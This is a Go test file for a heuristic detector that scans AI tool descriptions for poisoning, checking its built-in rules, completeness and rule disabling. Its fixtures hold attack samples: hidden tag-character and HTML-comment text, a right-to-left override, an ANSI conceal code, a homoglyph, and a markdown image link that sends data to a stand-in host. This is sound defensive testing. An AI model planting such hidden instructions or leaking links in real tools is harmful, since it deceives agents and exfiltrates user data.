package heuristic

import (
	"slices"
	"strings"
	"testing"

	"github.com/aad6b6dc/taster/detectors"
	"github.com/aad6b6dc/taster/detectors/heuristic/check"
	"github.com/aad6b6dc/taster/detectors/heuristic/rulepack"
	"github.com/aad6b6dc/taster/models"
)

// Every rule in code can be told from those of the packs, and reports a class that the spec declares.
func TestCodeRules(t *testing.T) {
	packs, err := rulepack.Embedded()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range CodeRules() {
		for _, p := range packs {
			if slices.ContainsFunc(p.Rules, func(other rulepack.Rule) bool { return other.ID == r.ID }) {
				t.Errorf("pack %s has a rule %s, too", p.Name, r.ID)
			}
		}
		if !slices.Contains(Spec.Classes, r.Class) {
			t.Errorf("%s reports %s, which the spec does not declare", r.ID, r.Class)
		}
		if r.Version == "" || r.Message == "" || r.Group == "" || r.Severity.Rank() == 0 || r.Confidence <= 0 || r.Confidence > 1 {
			t.Errorf("%s is not whole: %+v", r.ID, r)
		}
	}
}

// What the detector reports without a pack is listed among the rules in code.
func TestCodeRulesAreComplete(t *testing.T) {
	packs, err := rulepack.Embedded()
	if err != nil {
		t.Fatal(err)
	}
	set, err := rulepack.Compile(packs)
	if err != nil {
		t.Fatal(err)
	}
	listed := map[string]bool{}
	for _, r := range CodeRules() {
		listed[r.ID+" "+string(r.Class)] = true
	}
	scanner, d := set.Scanner(), newTestDetector(t)
	found := 0
	for _, body := range []object{
		{"name": "x", "description": "Tides." + tags(textbook)},
		{"name": "x", "description": "Tides. <!-- " + textbook + " -->"},
		{"name": "x", "description": "\u202eTides \x1b[8m of p\u0430yment ![x](https://px.harbour.example/{data})"},
	} {
		for _, f := range inspect(t, d, models.KindTool, marshal(t, body)).Findings {
			if scanner.Knows(f.Rule) {
				continue
			}
			if found++; !listed[f.Rule+" "+string(f.Class)] {
				t.Errorf("%s %s is not listed", f.Rule, f.Class)
			}
		}
	}
	if found < 6 {
		t.Errorf("only %d findings", found)
	}
}

// A rule in code can be disabled like one of a pack, and the revision says so.
func TestCodeRuleDisabled(t *testing.T) {
	bell := &check.Rule{ID: "bell", Version: "1.0.0", Class: "A1", Severity: models.SeverityHigh, Confidence: 0.7, Message: "Rings."}
	saved := checks
	t.Cleanup(func() { checks = saved })
	checks = append(slices.Clone(saved), &check.Group{Name: "bells", Rules: []*check.Rule{bell}, Checks: []check.Check{{Examine: func(e *check.Event) { e.Report(bell, nil, e.Whole(0)) }}}})

	body := marshal(t, object{"name": "x", "description": "![x](https://px.harbour.example/{data})"})
	rules := func(d detectors.Detector) []string {
		var ids []string
		for _, f := range inspect(t, d, models.KindTool, body).Findings {
			ids = append(ids, f.Rule)
		}
		slices.Sort(ids)
		return ids
	}
	plain := newTestDetector(t)
	if got := rules(plain); !slices.Equal(got, []string{"bell", "leaking-link"}) {
		t.Errorf("found %v", got)
	}
	seen := map[string]bool{revision(t, plain): true}
	for _, ids := range [][]string{{"bell", "leaking-link"}, {"bell"}, {"leaking-link", "conceal-only"}} {
		d, err := newConfigured(t, object{"disabled": ids})
		if err != nil {
			t.Fatal(err)
		}
		for _, id := range rules(d) {
			if slices.Contains(ids, id) {
				t.Errorf("%s is found", id)
			}
		}
		if r := revision(t, d); seen[r] {
			t.Errorf("the revision does not cover %v", ids)
		} else {
			seen[r] = true
		}
	}
	own := writePack(t, strings.Replace(ownPack, "id: bell-tower", "id: bell", 1))
	if _, err := newConfigured(t, object{"packs": []object{{"path": own.Path, "sha256": own.SHA256}}}); err == nil {
		t.Error("a pack's rule has the id of a rule in code")
	}
}
